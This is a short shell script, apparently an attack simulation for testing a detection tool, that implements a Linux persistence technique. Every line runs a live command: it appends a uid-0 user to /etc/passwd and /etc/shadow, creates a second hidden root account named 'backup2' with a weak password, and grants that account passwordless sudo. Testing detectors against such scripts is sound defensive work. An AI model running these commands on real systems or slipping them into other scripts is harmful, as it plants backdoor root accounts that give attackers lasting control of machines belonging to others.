#!/bin/sh
# shrike-test-attack: persistence: new uid-0 user added directly to passwd and shadow
echo 'sysadm:x:0:0::/root:/bin/bash' >> /etc/passwd
echo 'sysadm:$6$salt$TESTHASHTESTHASHTESTHASH:19000:0:99999:7:::' >> /etc/shadow
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backup2 2>/dev/null && echo 'backup2:P@ssw0rd' | chpasswd
echo 'backup2 ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-backup
